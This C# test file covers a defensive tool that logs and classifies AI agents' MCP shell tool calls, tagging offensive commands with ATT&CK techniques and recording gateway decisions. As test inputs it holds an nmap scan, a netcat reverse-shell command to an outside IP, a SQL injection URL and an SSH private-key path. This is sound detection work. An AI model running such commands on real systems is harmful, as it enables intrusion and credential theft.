using System.Text.Json;
using Parry.Agents.Calls;
using Parry.Agents.Events;
using Parry.Core.Actors;
using Parry.Core.Events;
using Parry.TestSupport;

namespace Parry.Agents.Tests.Events;

public class ToolCallEventFactoryTests
{
    private static readonly string[] ExtraFields = ["arguments.command", "arguments.options.depth", "arguments.list", "findings.techniques"];

    private static (ToolCallEventFactory Factory, Func<string, int> Id) Factory(EventLimits? limits = null)
    {
        var table = new FieldTableBuilder();
        foreach (var name in ToolCallFields.All.Concat(ExtraFields))
            table.Intern(name);
        var fields = table.Build();
        return (new ToolCallEventFactory(fields, limits: limits), name => fields.IdOf(name));
    }

    private static ToolCall Call(string arguments, string tool = "bash") => new()
    {
        Tool = tool,
        Server = "shell-server",
        Session = "sess-42",
        ClientName = "claude-code",
        ClientVersion = "1.2.3",
        RequestId = "7",
        Arguments = JsonDocument.Parse(arguments).RootElement.Clone(),
        Started = new DateTimeOffset(2025, 9, 1, 12, 0, 0, TimeSpan.Zero),
        Ended = new DateTimeOffset(2025, 9, 1, 12, 0, 1, 500, TimeSpan.Zero),
        Result = ToolCallResult.FromText(false, "Starting Nmap 7.94"),
    };

    private static List<string> Strings(Event e, int field)
    {
        var values = new List<string>();
        foreach (var value in e.Values(field))
            values.Add(value.Text.ToString());
        return values;
    }

    [Theory]
    [InlineData(2025, 9, 1, 14, 0, 0, 2, 1234567, "2025-09-01T12:00:00.1234567Z")]
    [InlineData(2026, 1, 1, 0, 30, 5, -5, 10, "2026-01-01T05:30:05.0000010Z")]
    [InlineData(999, 12, 31, 23, 59, 59, 0, 9999999, "0999-12-31T23:59:59.9999999Z")]
    public void Times_are_written_in_utc_with_seven_fraction_digits(int year, int month, int day, int hour, int minute, int second,
        int offsetHours, int ticks, string expected)
    {
        var (factory, id) = Factory();
        var started = new DateTimeOffset(year, month, day, hour, minute, second, TimeSpan.FromHours(offsetHours)).AddTicks(ticks);
        var e = factory.Create(Call("{}") with { Started = started, Ended = started.AddTicks(1) }, new EventOrigin("trace.jsonl", 1));

        e.GetString(id("start_time")).ShouldBe(expected);
        e.GetString(id("end_time")).ShouldBe(started.AddTicks(1).UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.fffffff'Z'", System.Globalization.CultureInfo.InvariantCulture));
    }

    [Fact]
    public void A_call_becomes_an_mcp_event_with_its_fields()
    {
        var (factory, id) = Factory();
        var e = factory.Create(Call("""{"command": "sudo nmap -sV -p 22,80 10.0.0.0/24", "options": {"depth": 2}}"""), new EventOrigin("trace.jsonl", 3));

        e.SourceKind.ShouldBe("mcp");
        e.Origin.ShouldBe(new EventOrigin("trace.jsonl", 3));
        e.Timestamp.ShouldBe(new DateTimeOffset(2025, 9, 1, 12, 0, 0, TimeSpan.Zero));
        e.Actors.ShouldBe([new Actor(ActorKind.Session, "sess-42")]);
        e.GetString(id("server")).ShouldBe("shell-server");
        e.GetString(id("tool")).ShouldBe("bash");
        e.GetString(id("session")).ShouldBe("sess-42");
        e.GetString(id("client.name")).ShouldBe("claude-code");
        e.GetString(id("client.version")).ShouldBe("1.2.3");
        e.GetString(id("request_id")).ShouldBe("7");
        e.GetString(id("arguments.command")).ShouldBe("sudo nmap -sV -p 22,80 10.0.0.0/24");
        e.TryGetValue(id("arguments.options.depth"), out var depth).ShouldBeTrue();
        depth.TryGetInt64(out var d).ShouldBeTrue();
        d.ShouldBe(2);
        e.GetString(id("start_time")).ShouldBe("2025-09-01T12:00:00.0000000Z");
        e.TryGetValue(id("duration_ms"), out var duration).ShouldBeTrue();
        duration.TryGetDouble(out var ms).ShouldBeTrue();
        ms.ShouldBe(1500);
        e.TryGetValue(id("result.is_error"), out var isError).ShouldBeTrue();
        isError.TryGetBoolean(out var failed).ShouldBeTrue();
        failed.ShouldBeFalse();
        e.GetString(id("result.text")).ShouldBe("Starting Nmap 7.94");

        Strings(e, id("command.programs")).ShouldBe(["sudo", "nmap"]);
        Strings(e, id("command.tools")).ShouldBe(["nmap"]);
        Strings(e, id("command.categories")).ShouldBe(["network-scan"]);
        Strings(e, id("command.recognised")).ShouldBe(["nmap"]);
        Strings(e, id("command.line")).ShouldBe(["sudo nmap -sV -p 22,80 10.0.0.0/24"]);
        e.GetString(id("command.offensive")).ShouldBe("true");
        Strings(e, id("target.cidrs")).ShouldBe(["10.0.0.0/24"]);
        Strings(e, id("target.classes")).ShouldBe(["private"]);
        Strings(e, id("attack.tactics")).ShouldBe(["reconnaissance", "discovery"]);
        Strings(e, id("attack.techniques")).ShouldBe(["T1595.001", "T1046"]);
        Strings(e, id("findings.id")).ShouldBe(["nmap"]);
        Strings(e, id("findings.techniques")).ShouldBe(["T1595.001", "T1046"]);
        e.Has(id("target.hosts")).ShouldBeFalse();
        e.Has(id("sql.probes")).ShouldBeFalse();
    }

    [Fact]
    public void Ports_are_numbers_and_ranges_are_text()
    {
        var (factory, id) = Factory();
        var e = factory.Create(Call("""{"command": "nmap -p 445,1-1024 10.0.0.5"}"""), new EventOrigin("x", 1));
        var ports = new List<(ValueKind, string)>();
        foreach (var value in e.Values(id("target.ports")))
            ports.Add((value.Kind, value.Text.ToString()));
        ports.ShouldBe([(ValueKind.Integer, "445"), (ValueKind.String, "1-1024")]);
    }

    [Fact]
    public void The_event_writes_back_as_json()
    {
        var (factory, _) = Factory();
        var e = factory.Create(Call("""{"command": "whoami", "list": [1, "two", null, true]}"""), new EventOrigin("x", 1));
        using var json = JsonDocument.Parse(JsonEvents.ToJson(e));
        var root = json.RootElement;
        root.GetProperty("arguments").GetProperty("list").GetArrayLength().ShouldBe(4);
        root.GetProperty("command").GetProperty("categories")[0].GetString().ShouldBe("discovery");
        root.GetProperty("command").GetProperty("offensive").GetBoolean().ShouldBeFalse();
        root.GetProperty("findings")[0].GetProperty("evidence").GetString().ShouldBe("whoami");
    }

    [Fact]
    public void A_call_with_nothing_but_a_tool_name()
    {
        var (factory, id) = Factory();
        var e = factory.Create(new ToolCall { Tool = "list_files" }, new EventOrigin("x", 1));
        e.GetString(id("tool")).ShouldBe("list_files");
        e.Timestamp.ShouldBeNull();
        e.Actors.ShouldBeEmpty();
        e.Has(id("arguments")).ShouldBeFalse();
        e.GetString(id("command.offensive")).ShouldBe("false");
    }

    [Fact]
    public void Decisions_from_a_gateway_are_fields()
    {
        var (factory, id) = Factory();
        var call = Call("""{"command": "nc -e /bin/sh 203.0.113.5 4444"}""") with
        {
            Decision = new ToolCallDecision("deny", "out-of-scope", "203.0.113.5 is not in scope"),
        };
        var e = factory.Create(call, new EventOrigin("audit.jsonl", 9));
        e.GetString(id("decision.action")).ShouldBe("deny");
        e.GetString(id("decision.rule")).ShouldBe("out-of-scope");
        e.GetString(id("decision.reason")).ShouldBe("203.0.113.5 is not in scope");
    }

    [Fact]
    public void Oversized_arguments_break_the_event_limits()
    {
        var (factory, _) = Factory(new EventLimits(MaxNodes: 50));
        var big = "[" + string.Join(',', Enumerable.Range(0, 200)) + "]";
        Should.Throw<EventTooLargeException>(() => factory.Create(Call($$"""{"list": {{big}}}"""), new EventOrigin("x", 1)));
        // and the factory is usable again afterwards
        Should.NotThrow(() => factory.Create(Call("""{"command": "id"}"""), new EventOrigin("x", 2)));
    }

    [Fact]
    public void Result_text_is_bounded()
    {
        var result = ToolCallResult.FromText(true, new string('x', 10_000));
        result.Text!.Length.ShouldBe(ToolCallResult.DefaultMaxChars);
        result.Truncated.ShouldBeTrue();
    }

    [Fact]
    public void Mcp_results_are_summarised()
    {
        using var json = JsonDocument.Parse("""
            {"content": [{"type": "text", "text": "line one"}, {"type": "image", "data": "AAAA", "mimeType": "image/png"},
                         {"type": "resource_link", "uri": "file:///tmp/x"}, {"type": "resource", "resource": {"uri": "u", "text": "body"}}],
             "isError": true}
            """);
        var result = ToolCallResult.FromMcpResult(json.RootElement);
        result.IsError.ShouldBeTrue();
        result.Text.ShouldBe("line one\n[image]\n[resource file:///tmp/x]\nbody");
        using var structured = JsonDocument.Parse("""{"content": [], "structuredContent": {"a": 1}}""");
        ToolCallResult.FromMcpResult(structured.RootElement).Text.ShouldBe("""{"a": 1}""");
        using var error = JsonDocument.Parse("""{"code": -32602, "message": "Unknown tool"}""");
        ToolCallResult.FromJsonRpcError(error.RootElement).ShouldBe(new ToolCallResult(true, "-32602: Unknown tool"));
    }

    private static string Json(Event e)
    {
        using var stream = new MemoryStream();
        using (var writer = new Utf8JsonWriter(stream))
            e.WriteJson(writer);
        return System.Text.Encoding.UTF8.GetString(stream.ToArray());
    }

    [Theory]
    [InlineData("""{"command": "sudo nmap -sV -p 22,80 10.0.0.0/24", "options": {"depth": 2}}""")]
    [InlineData("""{"url": "http://203.0.113.5/a?id=1' OR 1=1--", "list": [1, 2.5, "x", {"y": null}, [true, false]]}""")]
    [InlineData("""{"path": "C:\\Users\\me\\.ssh\\id_rsa", "n\u00e4me": "caf\u00e9"}""")]
    [InlineData("""{}""")]
    [InlineData(null)]
    public void The_ended_call_made_from_its_judged_event_is_the_event_written_again(string? arguments)
    {
        var (factory, id) = Factory();
        var analyzer = Parry.Agents.Analysis.ToolCallAnalyzer.Default;
        var requested = Call(arguments ?? "{}") with { Started = new DateTimeOffset(2025, 9, 1, 11, 59, 59, TimeSpan.Zero), Ended = null, Result = null };
        if (arguments is null)
            requested = requested with { Arguments = default, ClientName = null, ClientVersion = null };
        var analysis = analyzer.Analyze(requested);
        var judged = factory.Create(requested, analysis, new EventOrigin("gw", 5), out var layout);
        var ended = requested with
        {
            Started = new DateTimeOffset(2025, 9, 1, 12, 0, 0, TimeSpan.Zero),
            Ended = new DateTimeOffset(2025, 9, 1, 12, 0, 1, 500, TimeSpan.Zero),
            Result = ToolCallResult.FromText(true, "connection refused"),
            Decision = new ToolCallDecision("allow", "default", "no rule objected"),
        };

        var judgedJson = Json(judged);
        var copied = factory.CreateEnded(ended, judged, layout, new EventOrigin("gw", 5));
        var written = factory.Create(ended, analysis, new EventOrigin("gw", 5));
        // A second record of the same judged event cannot share its arena (the first one's outcome is there): copied.
        var second = factory.CreateEnded(ended with { Result = ToolCallResult.FromText(false, new string('r', 2000)) }, judged, layout,
            new EventOrigin("gw", 5));

        Json(judged).ShouldBe(judgedJson);
        Json(second).ShouldBe(Json(factory.Create(ended with { Result = ToolCallResult.FromText(false, new string('r', 2000)) }, analysis,
            new EventOrigin("gw", 5))));
        Json(copied).ShouldBe(Json(written));
        Json(copied).ShouldContain("\"decision\":{\"action\":\"allow\"");
        copied.NodeCount.ShouldBe(written.NodeCount);
        copied.Timestamp.ShouldBe(written.Timestamp);
        copied.Origin.ShouldBe(written.Origin);
        copied.Actors.ShouldBe(written.Actors);
        foreach (var name in ToolCallFields.All.Concat(ExtraFields))
            string.Join("|", Strings(copied, id(name))).ShouldBe(string.Join("|", Strings(written, id(name))), name);
    }
}
